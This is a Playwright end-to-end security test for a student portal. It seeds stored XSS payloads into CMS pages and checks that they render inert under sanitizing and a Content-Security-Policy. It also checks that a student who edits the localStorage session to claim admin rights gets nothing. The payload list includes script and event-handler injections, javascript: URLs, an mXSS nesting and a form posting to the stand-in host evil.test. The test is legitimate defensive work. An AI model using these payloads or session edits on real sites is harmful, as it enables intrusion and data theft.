/**
 * Claims 3 and 5 of server/HARDENING.md, in real chromium against the real backend and the
 * production build:
 *  3. XSS: CMS content holding script, event-handler and javascript: URL payloads (the terms page 51
 *     and the Catapult lesson, written into the backend's database) renders inert: no dialog, no
 *     script run, no request to another host; the backend's Content-Security-Policy is in force.
 *  5. Tampering: a student who edits the persisted session (role, user id, unlock flags) in
 *     localStorage gets no data and no screen the server would not give them.
 */
import path from 'node:path';
import type { Page, Request } from 'playwright-core';
import { openDb } from '../server/db/connection';
import { demoPages } from '../server/seed/demoData';
import { writePages } from '../server/seed/seedDatabase';
import { DEMO_USERS, journeyFile, signIn } from './support';


const CATAPULT = 131;
const PLAY_MACHINES_1 = 130;
const EVIL = 'evil.test';

/** Each payload tries to set window.__xss, raise a dialog, or reach evil.test. */
const HTML_PAYLOADS = [
  `<script>window.__xss = 'script'; alert('script')</script>`,
  `<img src="x" onerror="window.__xss='onerror'; alert('onerror')">`,
  `<svg><script>window.__xss='svg-script'</script></svg>`,
  `<svg onload="window.__xss='svg-onload'"></svg>`,
  `<a id="js-link" href="javascript:window.__xss='js-link';alert('js-link')">a javascript: link</a>`,
  `<a id="js-link-encoded" href="jav&#x09;ascript:alert('encoded')">an encoded javascript: link</a>`,
  `<iframe src="javascript:alert('iframe')"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss='srcdoc'</script>"></iframe>`,
  `<object data="javascript:alert('object')"></object>`,
  `<embed src="javascript:alert('embed')">`,
  `<form action="https://${EVIL}/steal"><button id="evil-submit">Submit</button></form>`,
  `<img src="https://${EVIL}/pixel.png" alt="tracker">`,
  `<div style="background:url(https://${EVIL}/bg.png)">styled</div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')">`,
  `<base href="https://${EVIL}/">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss='mxss'"></style></mglyph></table></mtext></math>`,
  `<details open ontoggle="window.__xss='ontoggle'">details</details>`,
  `<p>Terms text still shows: ZEBRA-MARKER</p>`,
];

/** Writes the payloads into the portal's database: page 51's content and the Catapult lesson. */
async function seedPayloads(dataDir: string): Promise<void> {
  const db = openDb({ kind: 'sqlite', file: path.join(dataDir, 'portal.sqlite') });
  try {
    const pages = demoPages();
    const terms = pages.find((p) => p.id === 51)!;
    const catapult = pages.find((p) => p.id === CATAPULT)!;
    const gallery = [...((catapult.fields.lesson_0_gallery as Record<string, unknown>[]) ?? [])];
    gallery[0] = { ...gallery[0], original: `javascript:window.__xss='original'`, thumbnail: `https://${EVIL}/thumb.png`, originalAlt: `<img src=x onerror="window.__xss='alt'">` };
    gallery[1] = { ...gallery[1], original: `https://${EVIL}/step.png` };
    await writePages(db.kysely, [
      { ...terms, title: `Terms <img src=x onerror="window.__xss='title'">`, contentHtml: `${HTML_PAYLOADS.join('\n')}\n${terms.contentHtml}` },
      {
        ...catapult,
        title: `Catapult<img src=x onerror="window.__xss='lesson-title'">`,
        meta: { ...catapult.meta, lesson_plans_url: `javascript:window.__xss='plan'` },
        fields: {
          ...catapult.fields,
          small_image: `https://${EVIL}/small.png`,
          lesson_0_gallery: gallery,
          lesson_2_video_frame: { url: `javascript:window.__xss='video'` },
        },
      },
    ]);
  } finally {
    await db.close();
  }
}

interface Watch {
  dialogs: string[];
  /** Requests to another host that were not stopped by the Content-Security-Policy. */
  foreignRequests: () => string[];
  /** Requests to another host that the policy blocked before they left the browser. */
  blockedByCsp: string[];
}

function watch(page: Page, baseUrl: string): Watch {
  const origin = new URL(baseUrl).origin;
  const dialogs: string[] = [];
  const foreign = new Map<Request, string>();
  const blockedByCsp: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss().catch(() => undefined);
  });
  page.on('request', (request) => {
    const url = request.url();
    // javascript: in an img src is no request and runs nothing (window.__xss is checked); data: and blob: stay local.
    if (/^(data|blob|about|javascript):/i.test(url)) return;
    if (new URL(url).origin !== origin) foreign.set(request, 'no answer yet');
  });
  page.on('requestfailed', (request) => {
    if (!foreign.has(request)) return;
    const why = request.failure()?.errorText ?? '';
    if (/^csp$|ERR_BLOCKED_BY_CSP/i.test(why)) {
      foreign.delete(request);
      blockedByCsp.push(request.url());
    } else foreign.set(request, why);
  });
  page.on('response', (response) => {
    if (foreign.has(response.request())) foreign.set(response.request(), `answered ${response.status()}`);
  });
  return { dialogs, foreignRequests: () => [...foreign].map(([r, why]) => `${r.url()} (${why})`), blockedByCsp };
}

const xssFlag = (page: Page) => page.evaluate(() => (window as unknown as { __xss?: string }).__xss ?? null);

const journey = journeyFile();

describe('XSS: CMS content renders inert under the Content-Security-Policy', () => {
  beforeAll(async () => {
    await seedPayloads(journey.portal.dataDir);
  });

  it('the app is served with a CSP without unsafe-eval or inline script, nosniff, frame-ancestors and a Referrer-Policy', async () => {
    const res = await fetch(`${journey.portal.baseUrl}/terms_of_use`);
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toMatch(/unsafe-eval/);
    expect(csp).toContain("frame-ancestors 'self'");
    expect(csp).toContain("object-src 'none'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
  });

  it('/terms_of_use with script, event-handler and javascript: payloads: no dialog, no script, no request elsewhere', async () => {
    const browser = await journey.openBrowser();
    const { page } = browser;
    const w = watch(page, journey.portal.baseUrl);
    await page.goto(`${journey.portal.baseUrl}/terms_of_use`);
    await page.getByText('ZEBRA-MARKER').waitFor();
    await page.waitForTimeout(500);
    // Whatever links survived sanitizing, clicking them runs nothing.
    for (const id of ['js-link', 'js-link-encoded', 'evil-submit']) {
      const el = page.locator(`#${id}`);
      if ((await el.count()) > 0) await el.first().click({ timeout: 2000 }).catch(() => undefined);
    }
    await page.waitForTimeout(300);
    expect(await xssFlag(page)).toBeNull();
    expect(w.dialogs).toEqual([]);
    expect(w.foreignRequests()).toEqual([]);
    // The tracker image survives sanitizing (it is a plain <img>): the policy is what stops it.
    expect(w.blockedByCsp).toContain(`https://${EVIL}/pixel.png`);
    // The sanitized content holds no script, no handler attribute and no javascript: URL.
    const leftovers = await page.evaluate(() => {
      const found: string[] = [];
      for (const el of Array.from(document.querySelectorAll('main *'))) {
        if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'META'].includes(el.tagName)) found.push(el.tagName);
        for (const attr of Array.from(el.attributes)) {
          if (/^on/i.test(attr.name)) found.push(`${el.tagName}[${attr.name}]`);
          // eslint-disable-next-line no-control-regex -- browsers ignore control characters inside a URL scheme
          if (/^\s*javascript:/i.test(attr.value.replace(/[\s\u0000-\u001f]/g, ''))) found.push(`${el.tagName}[${attr.name}=${attr.value}]`);
        }
      }
      return found;
    });
    expect(leftovers).toEqual([]);
    expect(page.url()).toBe(`${journey.portal.baseUrl}/terms_of_use`);
    // Only the payloads may be reported as blocked by the policy: requests to evil.test, and the
    // payloads' inline handlers, which chromium reports against the document (no element of the page)
    // while DOMPurify parses the raw HTML in its inert document; none reaches the page (checked above).
    const payloadReport = (e: string) =>
      e.includes(EVIL) || /securitypolicyviolation: script-src-attr blocked inline in /.test(e) || /Executing inline event handler violates/.test(e);
    expect(browser.errors.filter((e) => !payloadReport(e))).toEqual([]);
  });

  it('the select-model page and the gallery of a lesson with payloads in its title, images and video: inert', async () => {
    const browser = await journey.openBrowser();
    const { page } = browser;
    const w = watch(page, journey.portal.baseUrl);
    await signIn(page, DEMO_USERS.admin.username, DEMO_USERS.admin.password, journey.portal.baseUrl);
    await page.goto(`${journey.portal.baseUrl}/select-model/PlayMachines1/${PLAY_MACHINES_1}`);
    await page.getByText('Catapult<img', { exact: false }).first().waitFor();
    await page.waitForTimeout(500);
    await page.goto(`${journey.portal.baseUrl}/model_building_instructions/PlayMachines1/${PLAY_MACHINES_1}/${CATAPULT}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.waitForTimeout(500);
    const video = page.getByRole('tab', { name: 'Video' });
    if ((await video.count()) > 0) {
      await video.click();
      const play = page.getByRole('button', { name: /Play video/ });
      if ((await play.count()) > 0) await play.first().click().catch(() => undefined);
      await page.waitForTimeout(500);
    }
    expect(await xssFlag(page)).toBeNull();
    expect(w.dialogs).toEqual([]);
    expect(w.foreignRequests()).toEqual([]);
    // The title is shown as text, not markup.
    expect(await page.locator('h1 img').count()).toBe(0);
  });
});

describe('Tampering: an edited persisted session gets nothing the server would not give', () => {
  it('mia edited into an administrator with dana\'s id and a locked model\'s flags sees no student data and no locked gallery', async () => {
    // What the server says, for the checks.
    const api = async (pathname: string, body: unknown, token?: string) => {
      const res = await fetch(`${journey.portal.baseUrl}${pathname}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
        body: JSON.stringify(body),
      });
      return (await res.json()) as unknown;
    };
    const config = await (await fetch(`${journey.portal.baseUrl}/portal-config.js`)).text();
    const authKey = /"authKey":"([^"]+)"/.exec(config)?.[1] ?? '';
    const adminToken = ((await api('/wp-json/jwt-auth/v1/token', { username: 'admin', password: DEMO_USERS.admin.password })) as { token: string }).token;
    const users = (await api('/wp-json/wl/v1/get_all_users_data', { AUTH_KEY: authKey }, adminToken)) as { user_id: string; role: string; FirstName: string; LastName: string; Email: string }[];
    const students = (await api('/wp-json/wl/v1/get_all_students_data', { AUTH_KEY: authKey }, adminToken)) as { student_first_name: string; student_last_name: string; parent_email: string; user_id: string }[];
    const miaToken = ((await api('/wp-json/jwt-auth/v1/token', { username: 'mia', password: DEMO_USERS.mia.password })) as { token: string; user_id: number }).token;
    const miaId = String(((await api('/wp-json/jwt-auth/v1/token', { username: 'mia', password: DEMO_USERS.mia.password })) as { user_id: number }).user_id);
    const danaId = Number(users.find((u) => u.Email === 'dana.cohen@demo.portal.test')?.user_id);
    const lessons = (await (await fetch(`${journey.portal.baseUrl}/wp-json/wp/v2/pages?parent=${PLAY_MACHINES_1}&per_page=100`, { headers: { authorization: `Bearer ${miaToken}` } })).json()) as {
      id: number;
      title: { rendered: string };
      unlocked?: boolean;
    }[];
    const locked = lessons.filter((l) => l.unlocked === false);
    expect(locked.length).toBeGreaterThan(0);
    const lockedLesson = locked[0]!;
    // Other people's data that must not appear: every student but mia, every owner's e-mail.
    const foreign = [
      ...students.filter((s) => s.user_id !== miaId).flatMap((s) => [s.parent_email, `${s.student_first_name} ${s.student_last_name}`]),
      ...users.filter((u) => u.role === 'franchise_owner').map((u) => u.Email),
    ];

    const browser = await journey.openBrowser();
    const { page } = browser;
    const listAnswers: string[] = [];
    page.on('response', (response) => {
      if (/get_all_(students|users)_data|create_franchise_owner|create_student/.test(response.url())) listAnswers.push(`${response.status()} ${new URL(response.url()).pathname}`);
    });
    await signIn(page, 'mia', DEMO_USERS.mia.password, journey.portal.baseUrl);

    // Edit the persisted session as a curious student would.
    await page.evaluate(
      ({ danaId: dana, lessonId, modelName }) => {
        const raw = localStorage.getItem('persist:session');
        if (!raw) throw new Error('no persisted session');
        const outer = JSON.parse(raw) as Record<string, string>;
        outer.userRole = JSON.stringify('administrator');
        outer.userId = JSON.stringify(dana);
        outer.userName = JSON.stringify('Dana Cohen');
        outer.OpenedPrograms = JSON.stringify([lessonId]);
        outer.unlockedModels = JSON.stringify({ [modelName]: true, [modelName.replace(/\s+/g, '')]: true });
        localStorage.setItem('persist:session', JSON.stringify(outer));
      },
      { danaId, lessonId: lockedLesson.id, modelName: lockedLesson.title.rendered },
    );
    await page.reload();
    await page.waitForLoadState('networkidle');

    const shownText = async () => (await page.locator('body').innerText()).toLowerCase();
    const seen: string[] = [];
    const landed: string[] = [];
    for (const route of ['/admin/all_students_list', '/admin/Franchise_Owners_List', '/students_list/Dana%20Cohen', '/sign_up_new_student/Dana%20Cohen']) {
      await page.goto(`${journey.portal.baseUrl}${route}`);
      await page.waitForLoadState('networkidle');
      await page.waitForTimeout(300);
      landed.push(new URL(page.url()).pathname);
      const text = await shownText();
      for (const item of foreign) if (text.includes(item.toLowerCase())) seen.push(`${route}: ${item}`);
    }
    expect(seen).toEqual([]);
    // On start the app asked the server who the token belongs to (users/me), so the edited role never
    // opened an administrator's or owner's screen: each of them sent her home.
    expect(landed).toEqual(['/', '/', '/', '/']);
    // Every list the tampered app asked for was refused by the server.
    expect(listAnswers.filter((a) => !/^(401|403) /.test(a))).toEqual([]);

    // The locked lesson's gallery: the new route and the older, flag-based one.
    const stepImages = async () => page.locator('.image-gallery-slide img, .image-gallery-thumbnail img').count();
    await page.goto(`${journey.portal.baseUrl}/model_building_instructions/PlayMachines1/${PLAY_MACHINES_1}/${lockedLesson.id}`);
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(500);
    expect(await stepImages()).toBe(0);
    expect(new URL(page.url()).pathname).not.toContain('/model_building_instructions/');
    await page.goto(`${journey.portal.baseUrl}/model_building_instructions/Mia%20Levi/PlayMachines1/${encodeURIComponent(lockedLesson.title.rendered.replace(/\s+/g, ''))}`);
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(500);
    expect(await stepImages()).toBe(0);
    // And the select-model page offers the code input, not the instructions, for the locked model.
    await page.goto(`${journey.portal.baseUrl}/select-model/PlayMachines1/${PLAY_MACHINES_1}`);
    await page.getByText(lockedLesson.title.rendered).first().waitFor();
    expect(await page.getByRole('link', { name: `Building instructions: ${lockedLesson.title.rendered}` }).count()).toBe(0);
  });
});
